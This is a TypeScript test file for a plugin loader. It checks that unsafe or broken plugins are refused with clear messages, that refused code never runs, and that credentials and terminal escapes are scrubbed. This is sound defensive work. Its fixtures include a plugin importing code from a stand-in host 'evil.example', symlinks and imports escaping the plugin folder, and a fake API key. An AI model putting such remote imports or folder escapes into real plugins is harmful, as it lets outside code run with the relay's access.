/** What is wrong with a plugin, and the words an operator reads about it: one golden file per case. */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { PluginListEntry } from "../../src/config/types.ts";
import { type LoadedExternal, type LoadRequest, loadExternal } from "../../src/snapshot/load-external.ts";
import { FAULT_CODES } from "../../src/snapshot/load-external-fault.ts";
import { PluginFolder } from "./plugin-folder.ts";

const GOLDEN = join(import.meta.dir, "../golden/plugins");
const GOOD = `import { openaiChat, openaiCompatible } from "monorelay/plugin";
export default openaiCompatible({ id: "corp", baseUrl: "https://llm.corp.example/v1", codecs: [openaiChat] });
`;
const provider = (fields: string): string => `import { defineProvider, openaiChat, Type } from "monorelay/plugin";
export default defineProvider({
  setup: () => ({ codecs: [openaiChat], request: () => ({ url: "", headers: {} }) }),
  ${fields}
});
`;

interface Refusal {
  /** Name of the golden file, which holds all problems of the load. */
  readonly golden: string;
  readonly files?: Readonly<Record<string, string>>;
  readonly list?: readonly (string | Partial<PluginListEntry>)[];
  readonly rest?: Partial<LoadRequest>;
  readonly prepare?: (folder: PluginFolder) => void;
}

const REFUSALS: readonly Refusal[] = [
  { golden: "not-found", files: { "corp.ts": GOOD }, list: ["crop"] },
  { golden: "not-found-with-ending", files: { "corp.ts": GOOD }, list: ["corp.ts"] },
  {
    golden: "not-found-outside-by-name",
    list: ["../corp"],
    prepare: ({ base }) => writeFileSync(join(base, "corp.ts"), GOOD),
  },
  { golden: "not-found-no-folder", rest: { dir: "/nowhere/plugins" } },
  {
    golden: "permissions-world-writable",
    files: { "corp.ts": GOOD },
    prepare: ({ dir }) => chmodSync(join(dir, "corp.ts"), 0o666),
  },
  {
    golden: "permissions-folder-world-writable",
    files: { "corp/index.ts": GOOD },
    prepare: ({ dir }) => chmodSync(join(dir, "corp"), 0o777),
  },
  {
    golden: "permissions-helper-world-writable",
    files: { "corp/index.ts": `import "./sign.ts";\n${GOOD}`, "corp/sign.ts": "export {};\n" },
    prepare: ({ dir }) => chmodSync(join(dir, "corp/sign.ts"), 0o646),
  },
  {
    golden: "permissions-link-out",
    prepare: ({ base, dir }) => {
      writeFileSync(join(base, "elsewhere.ts"), GOOD);
      symlinkSync("../elsewhere.ts", join(dir, "corp.ts"));
    },
  },
  {
    golden: "permissions-import-out",
    files: { "corp.ts": `${GOOD}import "../elsewhere.ts";\n` },
    prepare: ({ base }) => writeFileSync(join(base, "elsewhere.ts"), ""),
  },
  {
    golden: "permissions-import-link-out",
    files: { "corp.ts": `${GOOD}import secret from "./inside.ts";\nexport { secret };\n` },
    prepare: ({ base, dir }) => {
      writeFileSync(join(base, "elsewhere.ts"), "export default 1;");
      symlinkSync("../elsewhere.ts", join(dir, "inside.ts"));
    },
  },
  { golden: "hash-differs", files: { "corp.ts": GOOD }, list: [{ name: "corp", sha256: "0".repeat(64) }] },
  { golden: "hash-missing", files: { "corp.ts": GOOD }, rest: { requireHash: true } },
  {
    golden: "syntax",
    files: {
      "corp.ts": `/** Corp. */\nimport { openaiChat } from "monorelay/plugin";\n\nconst region = = "eu";\nexport default region;\n`,
    },
  },
  {
    golden: "syntax-in-helper",
    files: {
      "corp/index.ts": `export { default } from "./sign.ts";\n`,
      "corp/sign.ts": "export default {\n\ta: 1,\n\tb 2,\n};\n",
    },
  },
  {
    golden: "import-missing-file",
    files: { "corp.ts": `import { sign } from "./sgin.ts";\n${GOOD}export { sign };\n` },
  },
  { golden: "import-missing-package", files: { "corp.ts": `${GOOD}export const x = await import("nope");\n` } },
  {
    golden: "import-not-open",
    files: {
      "corp.ts": `${GOOD}export { Elysia } from "monorelay/http";\nexport { Type } from "@sinclair/typebox";\nimport "https://evil.example/x.js";\n`,
    },
  },
  {
    golden: "import-missing-export",
    files: { "corp.ts": `import { openAiChat } from "monorelay/plugin";\nexport default openAiChat;\n` },
  },
  { golden: "import-missing-export-passed-on", files: { "corp.ts": `export { sse2 } from "monorelay/plugin";\n` } },
  {
    golden: "import-missing-default",
    files: {
      "corp.ts": `import sign from "./sign.ts";\n${GOOD}console.log(sign);\n`,
      "sign.ts": "export const sign = 1;\n",
    },
  },
  {
    golden: "import-throws",
    files: {
      "corp/index.ts": `export { default } from "./setting.ts";\n`,
      "corp/setting.ts": `function read(name: string): string {\n  throw new TypeError(\`no setting \${name}\`);\n}\n\nexport default read("region");\n`,
    },
  },
  { golden: "import-throws-no-error", files: { "corp.ts": `throw "not today";\n` } },
  { golden: "import-rejects", files: { "corp.ts": `${GOOD}Promise.reject(new Error("nobody waits for me"));\n` } },
  { golden: "import-endless-loop", files: { "corp.ts": "while (true);\n" }, rest: { importMaxMs: 50 } },
  {
    golden: "import-never-settles",
    files: { "corp.ts": `await new Promise(() => {});\n${GOOD}` },
    rest: { importMaxMs: 50 },
  },
  { golden: "import-exits", files: { "corp.ts": "process.exit(0);\n" } },
  { golden: "shape-no-default", files: { "corp.ts": "export const corp = 1;\n" } },
  { golden: "shape-not-a-plugin", files: { "corp.ts": "export default () => 1;\n" } },
  {
    golden: "shape-many",
    files: { "corp.ts": `export default { kind: "hook", id: "Corp AI", apiVersion: 0.5, version: 3 };\n` },
  },
  {
    golden: "shape-provider",
    files: {
      "corp.ts": provider(
        `id: "corp", baseUrl: "ftp://corp.example", keys: "sometimes" as never, local: 1 as never, options: { region: "eu" } as never,`,
      ),
    },
  },
  {
    golden: "shape-options",
    files: {
      "corp.ts": provider(
        `id: "corp", options: Type.Object({ signing_key: Type.String({ description: "Signs" }), delay: Type.Number({ default: "3", description: "Waits" }), plain: { type: "string" } as never }),`,
      ),
    },
  },
  {
    golden: "api-version",
    files: { "corp.ts": `export default { apiVersion: 2, whatever: "version 2 looks like" };\n` },
  },
  { golden: "duplicate-id-built-in", files: { "corp.ts": GOOD }, rest: { builtinIds: ["openai", "corp"] } },
  { golden: "duplicate-id", files: { "corp.ts": GOOD, "copy.ts": GOOD }, list: ["corp", "copy"] },
  {
    golden: "option-reserved",
    files: {
      "corp.ts": provider(
        `id: "corp", options: Type.Object({ rateLimitCooldown: Type.Number({ description: "Waits" }), weight: Type.Number({ description: "Heavy" }) }),`,
      ),
    },
  },
];

let folder: PluginFolder;
beforeEach(() => {
  folder = new PluginFolder();
});
afterEach(() => folder.remove());

const textOf = ({ problems }: LoadedExternal): string =>
  problems
    .map(
      ({ path, message, suggestion }) =>
        `${path}: ${message}${suggestion === null ? "" : `\ndid you mean: ${suggestion}`}\n`,
    )
    .join("");

describe("a plugin that cannot be loaded is explained", () => {
  test.each(REFUSALS.map((refusal) => [refusal.golden, refusal] as const))("%s", async (_name, refusal) => {
    const { golden, files = {}, list = ["corp"], rest, prepare } = refusal;
    for (const [path, text] of Object.entries(files)) folder.write(path, text);
    prepare?.(folder);

    const result = await folder.load(list, rest);

    const path = join(GOLDEN, `${golden}.txt`);
    expect(existsSync(path), `write ${path}; the load says:\n${textOf(result)}`).toBe(true);
    expect(textOf(result)).toBe(readFileSync(path, "utf8"));
    expect(result.problems.every(({ code }) => code === "plugin")).toBe(true);
    const isSecondOfTwo = golden === "duplicate-id";
    expect(result.loaded.map(({ name }) => name)).toEqual(isSecondOfTwo ? ["corp"] : []);
    expect(result.providers.length + result.auth.length).toBe(isSecondOfTwo ? 1 : 0);
  });

  test("every golden file belongs to a case, and every code has one", () => {
    const files = readdirSync(GOLDEN);
    expect(files.toSorted()).toEqual(REFUSALS.map(({ golden }) => `${golden}.txt`).toSorted());
    const codes = new Set(
      files.map((file) => /: (PLUGIN_[A-Z_]+) /.exec(readFileSync(join(GOLDEN, file), "utf8"))?.[1]),
    );
    expect([...codes].toSorted()).toEqual([...FAULT_CODES].toSorted());
  });
});

describe("no code of a refused plugin runs in the relay", () => {
  const touched = (name: string): boolean => name in globalThis;

  test("not with a wrong pin, not without a needed one, not while others can write it", async () => {
    folder.write("pinned.ts", `globalThis.touchedByPinned = true;\n${GOOD}`);
    chmodSync(folder.write("open.ts", `globalThis.touchedByOpen = true;\n${GOOD}`), 0o666);
    const result = await folder.load([{ name: "pinned" }, { name: "open", sha256: "0".repeat(64) }], {
      requireHash: true,
    });
    expect(result.problems).toHaveLength(2);
    expect(touched("touchedByPinned")).toBe(false);
    expect(touched("touchedByOpen")).toBe(false);
  });

  test("not when the trial failed: it has a world of its own", async () => {
    folder.write("corp.ts", `globalThis.touchedByTrial = true;\nthrow new Error("no");\n`);
    expect((await folder.load(["corp"])).problems).toHaveLength(1);
    expect(touched("touchedByTrial")).toBe(false);
  });

  test("not when it only lies in the folder, and not when it is disabled", async () => {
    folder.write("stray.ts", `globalThis.touchedByStray = true;\n${GOOD}`);
    folder.write("off.ts", `globalThis.touchedByOff = true;\n${GOOD}`);
    const result = await folder.load([{ name: "off", enabled: false }]);
    expect(result).toMatchObject({ problems: [], loaded: [], files: [] });
    expect(touched("touchedByStray")).toBe(false);
    expect(touched("touchedByOff")).toBe(false);
  });
});

describe("one bad plugin", () => {
  test("does not hide another: each says what is wrong, the good ones are there", async () => {
    folder.write("corp.ts", GOOD);
    folder.write("broken.ts", "export default {");
    folder.write("other.ts", GOOD.replace('"corp"', '"other"'));
    const { problems, providers } = await folder.load(["broken", "corp", "missing", "other"]);
    expect(problems.map(({ path }) => path)).toEqual(["plugins.list[0]", "plugins.list[2]"]);
    expect(providers.map(({ id }) => id)).toEqual(["corp", "other"]);
  });

  test("shows no credential that its source quotes", async () => {
    folder.write(
      "corp.ts",
      `const key = "sk-abcdefghijklmnop1234567890";\nthrow new Error("refused: sk-abcdefghijklmnop1234567890");\n`,
    );
    const { problems } = await folder.load(["corp"]);
    expect(problems[0]?.message).toContain("[redacted]");
    expect(JSON.stringify(problems)).not.toContain("abcdefghijklmnop");
  });

  test("cannot flood a message or colour a terminal", async () => {
    folder.write("corp.ts", `throw new Error("\\u001b[31m" + "x".repeat(100_000));\n`);
    const { problems } = await folder.load(["corp"]);
    expect(problems[0]?.message).not.toContain("\u001b");
    expect(problems[0]?.message.length).toBeLessThan(2000);
  });
});

test("an empty list asks nothing of the folder", async () => {
  const request = { dir: "/nowhere", list: [], requireHash: true, builtinIds: [], log: console };
  expect(await loadExternal(request)).toMatchObject({ providers: [], auth: [], problems: [], files: [], loaded: [] });
});
